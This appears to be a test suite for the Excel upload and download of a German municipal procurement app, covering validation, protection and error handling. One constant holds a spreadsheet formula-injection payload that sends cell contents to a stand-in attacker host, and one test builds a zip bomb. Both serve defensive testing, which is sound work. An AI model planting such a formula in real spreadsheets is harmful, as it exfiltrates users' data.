import { deflateRawSync } from "node:zlib";

import { eq } from "drizzle-orm";
import type ExcelJS from "exceljs";

import { getDb } from "#db/client";
import { catalogueItems } from "#db/schema";
import { MAX_QUANTITY, articleNumber } from "~/domain/demand";
import {
  CONTROL_SHEET,
  EXTRA_ROWS,
  FIRST_DATA_ROW,
  HEADER_ROW,
  loadDemandTemplate,
  MAX_DATA_ROWS,
  TEMPLATE_COLUMNS,
} from "~/modules/demand/index.server";
import { importDemandUpload, parseDemandUpload } from "~/modules/demand/index.server";
import {
  formatProblem,
  prepareWorkbookBytes,
  type SpreadsheetProblem,
} from "~/kit/spreadsheet/xlsx-reader.server";
import { listDemandLines, replaceDemandLines } from "~/modules/demand/index.server";
import { createSession } from "~/modules/access/index.server";
import { action as uploadAction, loader as uploadLoader } from "~/routes/bedarf.$roundId.hochladen";
import { loader as templateLoader } from "~/routes/bedarf.$roundId.vorlage";
import { sessionCookie } from "~/modules/access/index.server";

import { line, makeOpenRound, tableChecksum } from "../factories/rounds";
import {
  cellOf,
  demandSheet,
  editWorkbook,
  findRow,
  freeRow,
  readWorkbook,
  setCells,
} from "../factories/xlsx";
import { useTestDatabase } from "../support/database";

useTestDatabase();

// A fixed clock: the round opened an hour before, its deadline is a week later, 11:00 in Berlin.
const now = new Date("2027-02-01T10:00:00Z");
const week = 7 * 24 * 3600 * 1000;
const injection = '=HYPERLINK("http://boese.example/?x="&A1;"Rechnung")';

async function setup() {
  const round = await makeOpenRound({ now, deadlineInMs: week, items: 3, invited: 2 });
  const db = await getDb();
  // 3,95 € for the first item, to see the decimals in the sheet.
  await db
    .update(catalogueItems)
    .set({ referencePrice: 39_500 })
    .where(eq(catalogueItems.id, round.itemIds[0]!));
  const officer = round.officers[0]!;
  const actor = { userId: officer.id, bodyId: officer.bodyId };
  const body = { id: officer.bodyId, name: "Gemeinde 1" };
  const template = async () => {
    const result = await loadDemandTemplate({ roundId: round.roundId, body, now });
    if (!result) throw new Error("no template");
    return result;
  };
  const upload = (bytes: Uint8Array, at = now) =>
    importDemandUpload({ roundId: round.roundId, actor, bytes, now: at });
  return { ...round, actor, body, template, upload };
}

const at = (row: number, column: string) => ({ sheet: "Bedarf", row, column });

describe("demand template", () => {
  it("holds the items, the body's lines, formulas with cached results, protection and the hidden sheet", async () => {
    const s = await setup();
    await replaceDemandLines({
      roundId: s.roundId,
      actor: s.actor,
      incoming: [
        { ...line(s.itemIds[0]!, 5, "KST 2"), note: "Schulen" },
        { ...line(s.itemIds[0]!, 3, "KST 10"), product: "11.1.01" },
      ],
      now,
    });
    const { fileName, bytes } = await s.template();
    expect(fileName).toBe("Bedarf_Bueromaterial_2027_Gemeinde_1.xlsx");

    const workbook = await readWorkbook(bytes);
    const sheet = demandSheet(workbook);
    expect(sheet.getCell("A1").value).toBe("Bedarfsmeldung: Büromaterial 2027");
    expect(sheet.getCell("A2").value).toBe("Körperschaft: Gemeinde 1");
    // 2027-02-08T10:00Z is 11:00 in Berlin (CET).
    expect(sheet.getCell("A3").value).toBe("Frist: 08.02.2027, 11:00 Uhr (MEZ)");
    expect(sheet.getRow(HEADER_ROW).values).toEqual([
      undefined,
      ...TEMPLATE_COLUMNS.map((c) => c.header),
    ]);
    expect(sheet.getColumn(13).hidden).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: HEADER_ROW });
    expect(sheet.autoFilter).toBeTruthy();

    // Lines of an item sorted by cost centre (plain string order), then one row per item without.
    const row = (r: number) => sheet.getRow(r).values as ExcelJS.CellValue[];
    expect(row(7).slice(1, 12)).toEqual([
      "A001",
      expect.stringMatching(/^Testartikel/),
      "Stück",
      "30197630-1",
      3.95,
      3,
      "KST 10",
      "11.1.01",
      undefined,
      undefined,
      undefined,
    ]);
    expect(row(8).slice(1, 12)).toEqual([
      "A001",
      expect.any(String),
      "Stück",
      "30197630-1",
      3.95,
      5,
      "KST 2",
      undefined,
      undefined,
      undefined,
      "Schulen",
    ]);
    expect(row(9)[1]).toBe("A002");
    expect(row(9)[6]).toBeUndefined();
    expect(row(10)[1]).toBe("A003");
    expect(row(10)[13]).toBe(s.itemIds[2]);
    expect(sheet.getCell("E7").numFmt).toBe('#,##0.00## "€"');

    // Summe: a formula whose cached value is right; the grand total above the table too.
    expect(sheet.getCell("L7").value).toMatchObject({ result: 3 * 3.95 });
    expect(sheet.getCell("L8").value).toMatchObject({ result: 5 * 3.95 });
    // An empty cached text is written as <v></v>; exceljs reads it back as no result.
    const empty = sheet.getCell("L9").value as ExcelJS.CellFormulaValue;
    expect(empty.formula).toContain("F9*E9");
    expect(empty.result ?? "").toBe("");
    expect((sheet.getCell("L7").value as ExcelJS.CellFormulaValue).formula).toContain("F7*E7");
    expect(sheet.getCell("L4").value).toMatchObject({
      formula: `SUM(L7:L${10 + EXTRA_ROWS})`,
      result: 3 * 3.95 + 5 * 3.95,
    });

    // Protected; only the input cells are unlocked, in the prefilled and the free rows.
    expect((sheet as unknown as { sheetProtection: unknown }).sheetProtection).toMatchObject({
      sheet: true,
      autoFilter: true,
    });
    expect(sheet.getCell("F7").protection).toMatchObject({ locked: false });
    expect(sheet.getCell("K7").protection).toMatchObject({ locked: false });
    expect(sheet.getCell("A7").protection?.locked).not.toBe(false);
    expect(sheet.getCell("E7").protection?.locked).not.toBe(false);
    expect(sheet.getCell("L7").protection?.locked).not.toBe(false);
    const firstFree = 11;
    expect(sheet.getCell(`A${firstFree}`).protection).toMatchObject({ locked: false });
    expect(sheet.getCell(`B${firstFree}`).value).toMatchObject({
      formula: expect.stringContaining("VLOOKUP($A11,Steuerung!$A$8:$F$10,3,FALSE)"),
    });
    expect(sheet.rowCount).toBe(10 + EXTRA_ROWS);

    // Whole numbers 0 … 100,000,000 in every quantity cell, with a German message.
    for (const r of [7, 9, firstFree, 10 + EXTRA_ROWS]) {
      expect(sheet.getCell(`F${r}`).dataValidation).toMatchObject({
        type: "whole",
        operator: "between",
        formulae: [0, MAX_QUANTITY],
        showErrorMessage: true,
        error: expect.stringContaining("ganze Zahl"),
      });
    }

    const control = workbook.getWorksheet(CONTROL_SHEET)!;
    expect(control.state).toBe("veryHidden");
    expect(control.getCell("B2").value).toBe(1);
    expect(control.getCell("B3").value).toBe(s.roundId);
    expect(control.getCell("B4").value).toBe(s.body.id);
    expect(
      [8, 9, 10].map((r) => [control.getCell(r, 1).value, control.getCell(r, 2).value]),
    ).toEqual([
      ["A001", s.itemIds[0]],
      ["A002", s.itemIds[1]],
      ["A003", s.itemIds[2]],
    ]);
  });

  it("is only offered to invited bodies", async () => {
    const s = await setup();
    const other = await makeOpenRound({ now });
    expect(await loadDemandTemplate({ roundId: other.roundId, body: s.body, now })).toBeUndefined();
    await expect(
      importDemandUpload({
        roundId: other.roundId,
        actor: s.actor,
        bytes: (await s.template()).bytes,
        now,
      }),
    ).rejects.toMatchObject({ status: 404 });
  });
});

describe("demand upload", () => {
  it("writes the filled template, and the same file again (or a fresh template) changes nothing", async () => {
    const s = await setup();
    await replaceDemandLines({
      roundId: s.roundId,
      actor: s.actor,
      incoming: [line(s.itemIds[0]!, 5, "KST 1")],
      now,
    });
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) => {
      setCells(sheet, findRow(sheet, "A002"), {
        quantity: 12,
        costCentre: injection,
        ledgerAccount: 54_110_000,
        note: "Bitte an das Bauamt",
      });
      const extra = freeRow(sheet);
      setCells(sheet, extra, {
        code: "a003",
        quantity: "1.000",
        costCentre: "  KST 2 ",
        deliveryAddress: "Rathaus\nMarktplatz 1",
      });
      // A second line for an item that already has one, with another cost centre.
      setCells(sheet, extra + 1, { code: "A001", quantity: 2, costCentre: "KST 3" });
    });

    const result = await s.upload(filled);
    expect(result).toEqual({ ok: true, created: 3, updated: 0, deleted: 0, unchanged: 1 });
    const stored = await listDemandLines({ roundId: s.roundId, bodyId: s.body.id });
    const byKey = Object.fromEntries(stored.map((l) => [`${l.itemId}|${l.costCentre}`, l]));
    expect(byKey[`${s.itemIds[1]}|${injection}`]).toMatchObject({
      quantity: 12,
      ledgerAccount: "54110000",
      note: "Bitte an das Bauamt",
    });
    expect(byKey[`${s.itemIds[2]}|KST 2`]).toMatchObject({
      quantity: 1000,
      deliveryAddress: "Rathaus\nMarktplatz 1",
    });
    expect(byKey[`${s.itemIds[0]}|KST 3`]).toMatchObject({ quantity: 2 });
    expect(stored).toHaveLength(4);

    const lines = await tableChecksum("demand_lines");
    const audit = await tableChecksum("audit_events");
    expect(await s.upload(filled)).toEqual({
      ok: true,
      created: 0,
      updated: 0,
      deleted: 0,
      unchanged: 4,
    });

    // The fresh template carries the injected text as guarded text, never as a formula …
    const fresh = (await s.template()).bytes;
    const sheet = demandSheet(await readWorkbook(fresh));
    const r = findRow(sheet, "A002");
    expect(cellOf(sheet, r, "costCentre").value).toBe(`'${injection}`);
    expect(cellOf(sheet, r, "costCentre").type).toBe(3 /* ExcelJS.ValueType.String */);
    // … and uploading it unchanged is lossless.
    expect(await s.upload(fresh)).toMatchObject({ ok: true, created: 0, updated: 0, deleted: 0 });
    expect(await tableChecksum("demand_lines")).toEqual(lines);
    expect(await tableChecksum("audit_events")).toEqual(audit);
  });

  it("deletes the lines whose quantity was cleared or set to 0, and updates changed ones", async () => {
    const s = await setup();
    await replaceDemandLines({
      roundId: s.roundId,
      actor: s.actor,
      incoming: [line(s.itemIds[0]!, 5, "A"), line(s.itemIds[1]!, 6, "B"), line(s.itemIds[2]!, 7)],
      now,
    });
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) => {
      setCells(sheet, findRow(sheet, "A001"), { quantity: null });
      setCells(sheet, findRow(sheet, "A002"), { quantity: 0 });
      setCells(sheet, findRow(sheet, "A003"), { quantity: 70, note: "mehr" });
    });
    expect(await s.upload(filled)).toEqual({
      ok: true,
      created: 0,
      updated: 1,
      deleted: 2,
      unchanged: 0,
    });
    expect(await listDemandLines({ roundId: s.roundId, bodyId: s.body.id })).toMatchObject([
      { itemId: s.itemIds[2], quantity: 70, note: "mehr", version: 2 },
    ]);
  });

  it("writes nothing when one row is bad, and names its row and column in German", async () => {
    const s = await setup();
    await replaceDemandLines({
      roundId: s.roundId,
      actor: s.actor,
      incoming: [line(s.itemIds[0]!, 5)],
      now,
    });
    const before = await tableChecksum("demand_lines");
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) => {
      setCells(sheet, findRow(sheet, "A001"), { quantity: 7 }); // a good change …
      setCells(sheet, findRow(sheet, "A002"), { quantity: 12.5 }); // … and a bad one
    });
    const result = await s.upload(filled);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.status).toBe(400);
    expect(result.problems).toEqual([
      { ...at(8, "Menge"), message: "„12,5“ ist keine ganze Zahl." },
    ]);
    expect(formatProblem(result.problems[0]!)).toBe(
      "Blatt „Bedarf“, Zeile 8, Spalte „Menge“: „12,5“ ist keine ganze Zahl.",
    );
    expect(await tableChecksum("demand_lines")).toEqual(before);
  });

  it("reports every problem of a file at once", async () => {
    const s = await setup();
    const before = await tableChecksum("demand_lines");
    const long = "K".repeat(61);
    let free = 0;
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) => {
      setCells(sheet, 7, { quantity: -3 });
      setCells(sheet, 8, { quantity: "viele", costCentre: long });
      setCells(sheet, 9, { quantity: 1e12, note: { formula: "1+1", result: 2 } });
      free = freeRow(sheet);
      setCells(sheet, free, { code: "A999", quantity: 1 });
      setCells(sheet, free + 1, { quantity: 4 });
      setCells(sheet, free + 2, { code: "A002", quantity: "12,5" });
      setCells(sheet, free + 3, { code: "A001", quantity: 1, costCentre: "X" });
      setCells(sheet, free + 4, { code: "A001", quantity: 2, costCentre: " x " });
      setCells(sheet, free + 5, { code: "A003", quantity: true });
      setCells(sheet, free + 6, { code: "A003", quantity: "" }); // empty: no line, no problem
    });
    const result = await parseDemandUpload({
      bytes: filled,
      roundId: s.roundId,
      bodyId: s.body.id,
      items: s.itemIds.map((id, i) => ({
        id,
        articleNumber: articleNumber(i + 1),
        name: `Artikel ${i}`,
      })),
    });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    const where = (p: SpreadsheetProblem) => `${p.row}/${p.column}`;
    expect(result.problems.map(where)).toEqual([
      "7/Menge",
      "8/Menge",
      "8/Kostenstelle",
      "9/Menge",
      "9/Bemerkung",
      `${free}/Artikel-Nr.`,
      `${free + 1}/Artikel-Nr.`,
      `${free + 2}/Menge`,
      `${free + 4}/Kostenstelle`,
      `${free + 5}/Menge`,
    ]);
    expect(result.problems.map((p) => p.message)).toEqual([
      "„-3“ ist negativ.",
      "„viele“ ist keine Zahl.",
      "Der Text ist zu lang (61 Zeichen, höchstens 60).",
      "„1.000.000.000.000“ ist zu groß (höchstens 100.000.000).",
      expect.stringContaining("enthält eine Formel"),
      "„A999“ ist keine Artikel-Nr. dieser Bedarfsabfrage.",
      "Die Artikel-Nr. fehlt. Bitte tragen Sie sie ein, z. B. A001.",
      "„12,5“ ist keine ganze Zahl.",
      expect.stringContaining(
        `Artikel A001 mit der Kostenstelle „x“ steht schon in Zeile ${free + 3}`,
      ),
      "„WAHR“ ist keine Zahl.",
    ]);
    expect(await tableChecksum("demand_lines")).toEqual(before);
  });

  it("refuses a file of another round or another body", async () => {
    const s = await setup();
    const before = await tableChecksum("demand_lines");
    const otherRound = await editWorkbook((await s.template()).bytes, (wb, sheet) => {
      setCells(sheet, 7, { quantity: 1 });
      wb.getWorksheet(CONTROL_SHEET)!.getCell("B3").value = "00000000-0000-4000-8000-000000000000";
    });
    expect(await s.upload(otherRound)).toMatchObject({
      ok: false,
      status: 400,
      problems: [
        {
          sheet: CONTROL_SHEET,
          row: 3,
          message: expect.stringContaining("anderen Bedarfsabfrage"),
        },
      ],
    });

    const neighbour = s.officers[1]!;
    const theirs = await loadDemandTemplate({
      roundId: s.roundId,
      body: { id: neighbour.bodyId, name: "Gemeinde 2" },
      now,
    });
    const filled = await editWorkbook(theirs!.bytes, (_wb, sheet) =>
      setCells(sheet, 7, { quantity: 1 }),
    );
    expect(await s.upload(filled)).toMatchObject({
      ok: false,
      problems: [{ row: 4, message: expect.stringContaining("anderen Körperschaft") }],
    });
    expect(await tableChecksum("demand_lines")).toEqual(before);
  });

  it("refuses a template whose sheets or columns were changed", async () => {
    const s = await setup();
    const bytes = (await s.template()).bytes;
    const noControl = await editWorkbook(bytes, (wb) => wb.removeWorksheet(CONTROL_SHEET));
    expect(await s.upload(noControl)).toMatchObject({
      ok: false,
      problems: [{ message: expect.stringContaining("Das Blatt „Steuerung“ fehlt") }],
    });
    const renamed = await editWorkbook(bytes, (_wb, sheet) => {
      sheet.getCell(HEADER_ROW, 6).value = "Anzahl";
    });
    expect(await s.upload(renamed)).toMatchObject({
      ok: false,
      problems: [{ row: HEADER_ROW, column: "F", message: expect.stringContaining("„Menge“") }],
    });
  });

  it.each([
    [
      "a CSV file",
      () => new TextEncoder().encode("Menge;Kostenstelle\n5;KST 1\n"),
      /keine Excel-Arbeitsmappe/,
    ],
    ["an empty file", () => new Uint8Array(0), /keine Excel-Arbeitsmappe/],
    ["a PDF", () => new TextEncoder().encode("%PDF-1.7\n..."), /keine Excel-Arbeitsmappe/],
  ])("refuses %s with a German message", async (_name, bytes, message) => {
    const s = await setup();
    const result = await s.upload(bytes());
    expect(result).toMatchObject({
      ok: false,
      status: 400,
      problems: [{ message: expect.stringMatching(message) }],
    });
  });

  it("refuses a truncated or tampered zip without crashing", async () => {
    const s = await setup();
    const bytes = (await s.template()).bytes;
    for (const broken of [
      bytes.slice(0, Math.floor(bytes.length / 2)),
      bytes.slice(0, bytes.length - 10),
      // Garbage in the middle of the compressed data.
      Uint8Array.from(bytes, (b, i) => (i > 200 && i < 400 ? 0xaa : b)),
    ]) {
      const result = await s.upload(broken);
      expect(result).toMatchObject({
        ok: false,
        status: 400,
        problems: [{ message: expect.stringMatching(/beschädigt|keine Excel-Arbeitsmappe/) }],
      });
    }
  });

  it("refuses a zip bomb before exceljs unpacks it", () => {
    const big = deflateRawSync(Buffer.alloc(60 * 1024 * 1024));
    expect(
      prepareWorkbookBytes(zipOf("xl/worksheets/sheet1.xml", big, 60 * 1024 * 1024)),
    ).toMatchObject({
      ok: false,
      problem: { message: expect.stringContaining("entpackt zu groß") },
    });
    // The same data with a lying header (it claims 1 kB) is caught while inflating.
    expect(prepareWorkbookBytes(zipOf("xl/worksheets/sheet1.xml", big, 1024))).toMatchObject({
      ok: false,
      problem: { message: expect.stringContaining("beschädigt") },
    });
  });

  it("refuses a file with more than the allowed number of rows", async () => {
    const s = await setup();
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) => {
      setCells(sheet, HEADER_ROW + MAX_DATA_ROWS + 1, { code: "A001", quantity: 1 });
    });
    expect(await s.upload(filled)).toMatchObject({
      ok: false,
      problems: [{ message: "Die Tabelle hat 10.001 Zeilen; höchstens 10.000 sind erlaubt." }],
    });
  });

  it("refuses an upload after the deadline and writes nothing", async () => {
    const s = await setup();
    const filled = await editWorkbook((await s.template()).bytes, (_wb, sheet) =>
      setCells(sheet, FIRST_DATA_ROW, { quantity: 1 }),
    );
    const before = await tableChecksum("demand_lines");
    const late = new Date(now.getTime() + week);
    expect(await s.upload(filled, late)).toMatchObject({
      ok: false,
      status: 409,
      problems: [
        { message: expect.stringContaining("Frist dieser Bedarfsabfrage ist abgelaufen") },
      ],
    });
    expect(await tableChecksum("demand_lines")).toEqual(before);
  });
});

describe("routes", () => {
  // The routes read the real clock, so this round is open now.
  async function signedIn() {
    const round = await makeOpenRound();
    const officer = round.officers[0]!;
    const cookie = await sessionCookie.serialize(await createSession({ userId: officer.id }));
    const base = `http://localhost/bedarf/${round.roundId}`;
    const params = { roundId: round.roundId };
    const post = (body: FormData) =>
      uploadAction({
        request: new Request(`${base}/hochladen`, {
          method: "POST",
          headers: { Cookie: cookie },
          body,
        }),
        params,
        context: {},
      });
    const download = () =>
      templateLoader({
        request: new Request(`${base}/vorlage`, { headers: { Cookie: cookie } }),
        params,
        context: {},
      });
    return { ...round, officer, cookie, base, params, post, download };
  }
  const form = (bytes: Uint8Array<ArrayBuffer>, name = "Bedarf.xlsx") => {
    const body = new FormData();
    body.append("datei", new File([bytes], name));
    return body;
  };
  const statusOf = (result: unknown) => (result as { init: { status: number } }).init.status;
  const dataOf = (result: unknown) =>
    (result as { data: { fileError: string | null; problems: string[] } }).data;

  it("downloads the template as an attachment and imports it back with a redirect to the entry page", async () => {
    const r = await signedIn();
    const response = await r.download();
    expect(response.headers.get("Content-Disposition")).toBe(
      'attachment; filename="Bedarf_Bueromaterial_2027_Gemeinde_1.xlsx"',
    );
    expect(response.headers.get("Content-Type")).toContain("spreadsheetml");
    const bytes = new Uint8Array(await response.arrayBuffer());
    const filled = await editWorkbook(bytes, (_wb, sheet) => setCells(sheet, 7, { quantity: 4 }));
    const redirect = await r.post(form(filled)).then(
      () => null,
      (thrown: unknown) => thrown as Response,
    );
    expect(redirect?.status).toBe(302);
    expect(redirect?.headers.get("Location")).toBe(
      `/bedarf/${r.roundId}?import=ok&neu=1&geaendert=0&geloescht=0`,
    );
    expect(await listDemandLines({ roundId: r.roundId, bodyId: r.officer.bodyId })).toMatchObject([
      { itemId: r.itemIds[0], quantity: 4 },
    ]);
  });

  it("answers 400 with the problems in German, 413 for a file over 5 MB, 400 without a file", async () => {
    const r = await signedIn();
    const bytes = new Uint8Array(await (await r.download()).arrayBuffer());
    const withError = await editWorkbook(bytes, (_wb, sheet) =>
      setCells(sheet, 7, { quantity: "zwei" }),
    );
    const refused = await r.post(form(withError));
    expect(statusOf(refused)).toBe(400);
    expect(dataOf(refused).problems).toEqual([
      "Blatt „Bedarf“, Zeile 7, Spalte „Menge“: „zwei“ ist keine Zahl.",
    ]);

    const huge = await r.post(form(new Uint8Array(5 * 1024 * 1024 + 1)));
    expect(statusOf(huge)).toBe(413);
    expect(dataOf(huge).fileError).toBe("Die Datei ist zu groß: höchstens 5 MB sind erlaubt.");

    const none = await r.post(new FormData());
    expect(statusOf(none)).toBe(400);
    expect(dataOf(none).fileError).toBe("Bitte wählen Sie eine Datei zum Hochladen aus.");
    expect(await listDemandLines({ roundId: r.roundId, bodyId: r.officer.bodyId })).toEqual([]);
  });

  it("shows neither page nor template to a body that is not invited, nor for a malformed id", async () => {
    const r = await signedIn();
    const other = await makeOpenRound();
    for (const roundId of [other.roundId, "kein-uuid"]) {
      const request = new Request(`http://localhost/bedarf/${roundId}/hochladen`, {
        headers: { Cookie: r.cookie },
      });
      await expect(
        uploadLoader({ request, params: { roundId }, context: {} }),
      ).rejects.toMatchObject({
        status: 404,
      });
      await expect(
        templateLoader({ request, params: { roundId }, context: {} }),
      ).rejects.toMatchObject({ status: 404 });
    }
  });
});

/** A one-entry zip archive (deflated), declaring `size` as the unpacked size. */
function zipOf(name: string, deflated: Buffer, size: number): Uint8Array {
  const nameBytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(deflated.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(deflated.length, 20);
  central.writeUInt32LE(size, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  central.writeUInt32LE(0, 42);
  const directoryOffset = local.length + nameBytes.length + deflated.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(directoryOffset, 16);
  return new Uint8Array(Buffer.concat([local, nameBytes, deflated, central, nameBytes, end]));
}
